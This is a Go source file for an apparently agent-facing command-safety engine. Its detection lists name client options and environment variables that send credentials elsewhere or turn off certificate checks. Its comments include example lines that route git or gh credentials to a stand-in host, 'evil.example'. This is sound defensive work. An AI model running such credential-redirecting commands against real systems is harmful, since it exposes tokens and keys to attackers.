package safety

import (
	"net/url"
	"slices"
	"strings"
)

// What the autonomy mapping recognises beyond the project's own commands: the rule pack's
// prefixes (recognized, and ordinary, whose writes the engine does not model), matched after a
// cluster client's global options, and never for a client told to send its credentials elsewhere.

// credentialTargets are the options and variables that make a cluster or container client send its
// credentials to a server the command line names, or take them from a client configuration it names
// (whose exec credential plugin is a program it runs). A built-in recognised prefix of these programs
// covers the everyday use, which names none: with one, the command is recognised only when the
// project declares it.
//
//nolint:goconst // option spellings read best literally, next to their neighbours
var credentialTargets = map[string][]string{
	cmdKubectl: {"-s", "--server", "--kubeconfig", "--token", "--certificate-authority", "--insecure-skip-tls-verify", optUser,
		"--as", "--as-group", "--as-uid", "--client-certificate", "--client-key", "--username", "--password",
		// A proxy the line names, and the name the server's certificate is checked against: with
		// both, whoever holds a certificate the cluster's CA signed for that name (a node's
		// kubelet) reads the token.
		"--proxy-url", "--tls-server-name"},
	cmdHelm: {"--kube-apiserver", "--kubeconfig", "--kube-token", "--kube-as-user", "--kube-as-group", "--kube-ca-file",
		"--kube-insecure-skip-tls-verify", "--kube-tls-server-name"},
	"docker": {"-H", "--host", "--config"},
	// aws signs its request (a signed sts get-caller-identity is a credential: EKS tokens and
	// Vault's AWS login are such requests) for the endpoint it is given; gh and glab send their
	// token to the host their variable names (optHostname stands for GH_HOST, GITLAB_HOST).
	cmdAWS: {optEndpointURL, "--ca-bundle", "--no-verify-ssl"},
	"gh":   {optHostname}, cmdGlab: {optHostname},
}

// optEndpointURL is aws's option for the endpoint it sends its signed requests to.
const optEndpointURL = "--endpoint-url"

// optHostname stands for the variables that name gh's and glab's host (envOptions).
const optHostname = "--hostname"

// sendsCredentialsElsewhere reports whether the segment carries one of its program's credentialTargets,
// as an option or as the variable that stands for it (envOptions: KUBECONFIG, DOCKER_HOST), changes
// what its program trusts (trustChanged), or points gh or glab at another host.
func sendsCredentialsElsewhere(s *segment) bool {
	if trustChanged(s) || repoOnAnotherHost(s) {
		return true
	}
	targets := credentialTargets[s.name]
	for _, f := range s.flags {
		if slices.Contains(targets, f) {
			return true
		}
	}
	for _, kv := range s.env {
		name, _, _ := strings.Cut(kv, "=")
		if f, ok := envOptions[s.name][name]; ok && slices.Contains(targets, f) {
			return true
		}
	}
	return false
}

// trustVars change which certificates a client trusts, or turn the check off: with one, whoever is
// on the path (a proxy the line names, HTTPS_PROXY) reads the token or key the client sends.
var trustVars = map[string]bool{"SSL_CERT_FILE": true, "SSL_CERT_DIR": true, "NODE_EXTRA_CA_CERTS": true,
	"NODE_TLS_REJECT_UNAUTHORIZED": true, "REQUESTS_CA_BUNDLE": true, "CURL_CA_BUNDLE": true, "GIT_SSL_CAINFO": true,
	"GIT_SSL_CAPATH": true, "GIT_SSL_NO_VERIFY": true, "PIP_CERT": true, "PIP_TRUSTED_HOST": true, "PYTHONHTTPSVERIFY": true}

// npmTrustSettings are npm's settings for the same (npm_config_cafile, --strict-ssl=false).
var npmTrustSettings = map[string]bool{"strict-ssl": true, "cafile": true, "ca": true}

// trustChanged reports whether the segment's environment, npm's or pip's options or git's -c
// settings change what its program trusts.
func trustChanged(s *segment) bool {
	for _, kv := range s.env {
		name, _, _ := strings.Cut(kv, "=")
		if k, ok := npmConfigSetting(name); trustVars[name] || ok && npmTrustSettings[k] {
			return true
		}
	}
	if s.name == cmdGit && slices.ContainsFunc(gitConfigValues(s), gitTrustSetting) {
		return true
	}
	return slices.ContainsFunc(trustOptions[s.name], s.hasFlag)
}

// gitTrustSetting reports whether a git -c (or --config-env) setting is GIT_SSL_NO_VERIFY's,
// GIT_SSL_CAINFO's or GIT_SSL_CAPATH's: http.sslVerify (or a URL's http.<url>.sslVerify) not
// true, or another CA file or directory. With one, git sends the Authorization header a CI checkout
// leaves and its credential helpers' passwords through whoever answers (git -c
// http.sslVerify=false -c http.proxy=http://evil.example:8080 fetch).
func gitTrustSetting(kv word) bool {
	k, v, hasValue := strings.Cut(kv.s, "=")
	k = strings.ToLower(k)
	if !strings.HasPrefix(k, "http.") {
		return false
	}
	switch k[strings.LastIndexByte(k, '.')+1:] {
	case "sslverify":
		// A bare key is true; an empty value, or one computed at run time, may be false.
		return kv.dynamic || hasValue && (v == "" || !gitTrue(v))
	case "sslcainfo", "sslcapath":
		return true
	}
	return false
}

// trustOptions are the options that change what npm, pnpm, yarn and pip trust.
//
//nolint:goconst // program names read best literally, next to their neighbours
var trustOptions = map[string][]string{cmdNpm: npmTrustOptions, "pnpm": npmTrustOptions, "yarn": npmTrustOptions,
	cmdPip: {"--trusted-host", optCert}}

// npmTrustOptions are npm's --strict-ssl (=false), --cafile and --ca.
var npmTrustOptions = []string{"--strict-ssl", "--cafile", "--ca"}

// repoOnAnotherHost reports whether gh or glab is pointed at another host than its own, where its
// token goes: -R/--repo HOST/OWNER/REPO or a URL, an operand HOST/OWNER/REPO (gh repo view
// evil.example/o/r), or a pull or merge request's URL on another host. A GitLab group may nest
// (group/sub/project), and a branch may hold slashes: there the first part is a host when it holds
// a dot, as a host name does.
func repoOnAnotherHost(s *segment) bool {
	if s.name != "gh" && s.name != cmdGlab {
		return false
	}
	for v := range optionValues(s, "-R", "--repo") {
		if v.dynamic || strings.Contains(v.s, ":") || hostRepo(v.s, s.name == "gh") {
			return true
		}
	}
	home := "github.com"
	if s.name == cmdGlab {
		home = "gitlab.com"
	}
	for _, w := range s.operands {
		u, err := url.Parse(w.s)
		if err == nil && strings.HasPrefix(u.Scheme, "http") && strings.TrimPrefix(strings.ToLower(u.Hostname()), "www.") != home {
			return true
		}
		if hostRepo(w.s, false) {
			return true
		}
	}
	return false
}

// hostRepo reports whether a repository's name is HOST/OWNER/REPO: three parts or more, the first
// a host (anyOwner: whatever it holds, as gh's -R reads it; else only when it holds a dot).
func hostRepo(name string, anyOwner bool) bool {
	first, rest, _ := strings.Cut(name, "/")
	return strings.Contains(rest, "/") && (anyOwner || strings.Contains(first, "."))
}

// beyondQuery reports whether a segment that starts as a recognised read-only query does more:
// it sends its credentials elsewhere, a build runs a goal beyond validation (buildgoals.go), or kubectl get --raw reaches a service or a node through
// the API server's proxy, where a GET can act (or a value the engine cannot read may).
func beyondQuery(s *segment) bool {
	if sendsCredentialsElsewhere(s) || beyondValidation(s) {
		return true
	}
	if s.name != cmdKubectl && s.name != cmdOC {
		return false
	}
	for v := range optionValues(s, "--raw", "--raw") {
		if v.dynamic || strings.Contains(strings.ToLower(v.s), "proxy") || strings.Contains(v.s, "%") {
			return true
		}
	}
	return false
}

// matchesPrefix reports whether the segment runs one of the command prefixes. For a program whose
// global options only choose the cluster, context, namespace or directory it works on, the prefix
// is also matched after them (kubectl -n staging get pods is kubectl get), as rules see them.
func matchesPrefix(prefixes [][]string, s *segment) bool {
	afterGlobals := s.alt != "" && selectorGlobals[s.name]
	for _, r := range prefixes {
		if prefixOf(r, s) || pythonModuleOf(r, s) || afterGlobals && subcommandAfterGlobals(r, s) || afterSelectors(r, s) {
			return true
		}
	}
	return false
}

// subcommandAfterGlobals reports whether the segment's text with its global options last starts
// with the prefix, whose words stand literally (not computed) in the segment.
func subcommandAfterGlobals(r []string, s *segment) bool {
	joined := strings.Join(r, " ")
	if s.alt != joined && !strings.HasPrefix(s.alt, joined+" ") {
		return false
	}
	for j := 1; j+len(r)-1 <= len(s.words); j++ {
		k := 1
		for ; k < len(r) && !s.words[j+k-1].dynamic && s.words[j+k-1].s == r[k]; k++ {
		}
		if k == len(r) {
			return true
		}
	}
	return false
}

// selectorGlobals are the programs matchesPrefix reads after their global options.
var selectorGlobals = map[string]bool{cmdKubectl: true, cmdHelm: true, "docker": true, cmdTerraform: true}

// packageSelectors are, per package manager, the options before its subcommand that only choose
// which of the project's packages it works on (a directory, a workspace, every package), each with
// whether it takes a value. npm reads its options wherever they are, so npm --prefix ../web test is
// npm test --prefix ../web; an option the engine does not know may take the next word (npm --foo
// test run build runs the build script), so the prefix is matched only after these.
//
//nolint:goconst // option spellings read best literally, next to their neighbours
var packageSelectors = map[string]map[string]bool{
	cmdNpm: {"--prefix": true, "-C": true, "-w": true, "--workspace": true, "--workspaces": false, "-ws": false},
	"pnpm": {"-C": true, "--dir": true, "-F": true, optFilter: true, "-r": false, "--recursive": false},
	"yarn": {"--cwd": true},
	cmdBun: {"--cwd": true},
}

// afterSelectors reports whether the segment's words after its program's packageSelectors start
// with the prefix's (the selectors' values are judged by outsideProject).
func afterSelectors(r []string, s *segment) bool {
	if r[0] != s.name {
		return false
	}
	i := selectorsEnd(s)
	if i == 1 || i+len(r)-1 > len(s.words) {
		return false
	}
	for k := 1; k < len(r); k++ {
		if w := s.words[i+k-1]; w.dynamic || w.s != r[k] {
			return false
		}
	}
	return true
}

// selectorsEnd returns the index of the segment's first word after its program's leading
// packageSelectors and their values (1 when there are none).
func selectorsEnd(s *segment) int {
	sel := packageSelectors[s.name]
	i := 1
	for sel != nil && i < len(s.words) && !s.words[i].dynamic {
		name, _, joined := strings.Cut(s.words[i].s, "=")
		takes, ok := sel[name]
		if !ok {
			break
		}
		i++
		if takes && !joined {
			i++
		}
	}
	return min(i, len(s.words))
}
